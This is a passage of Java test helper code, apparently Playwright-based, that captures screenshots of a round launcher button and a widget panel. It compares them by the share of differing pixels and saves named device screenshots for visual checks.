        return image(page.screenshot(new Page.ScreenshotOptions().setAnimations(ScreenshotAnimations.DISABLED)
                .setClip(size.width - 76, size.height - 76, 56, 56)));
    }

    static BufferedImage panelShot(Page page, ElementHandle frame) {
        var box = frame.boundingBox();
        page.mouse().move(0, 0);
        return image(page.screenshot(new Page.ScreenshotOptions().setAnimations(ScreenshotAnimations.DISABLED)
                .setClip(box.x + 14, box.y + 14, box.width - 28, box.height - 28)));
    }

    static BufferedImage image(byte[] png) {
        try {
            return ImageIO.read(new ByteArrayInputStream(png));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * Share of pixels whose colour differs by more than a little; with {@code radius > 0} only pixels inside
     * that circle around the centre count (the round launcher, not the page behind its corners).
     */
    static double diff(BufferedImage a, BufferedImage b, int radius) {
        assertThat(b.getWidth()).isEqualTo(a.getWidth());
        assertThat(b.getHeight()).isEqualTo(a.getHeight());
        int counted = 0, different = 0;
        double cx = a.getWidth() / 2.0, cy = a.getHeight() / 2.0;
        for (int y = 0; y < a.getHeight(); y++) {
            for (int x = 0; x < a.getWidth(); x++) {
                if (radius > 0 && Math.hypot(x + 0.5 - cx, y + 0.5 - cy) > radius) continue;
                counted++;
                int p = a.getRGB(x, y), q = b.getRGB(x, y), delta = 0;
                for (int shift = 0; shift <= 16; shift += 8) delta = Math.max(delta, Math.abs((p >> shift & 255) - (q >> shift & 255)));
                if (delta > 24) different++;
            }
        }
        return counted == 0 ? 1 : (double) different / counted;
    }

    static void shot(Page page, String name, String device) {
        Path file = SHOTS.resolve("widget-" + name + "-" + device + ".png");
        page.mouse().move(0, 0);
        page.screenshot(new Page.ScreenshotOptions().setPath(file).setAnimations(ScreenshotAnimations.DISABLED));
        assertThat(file).isNotEmptyFile();
    }
}
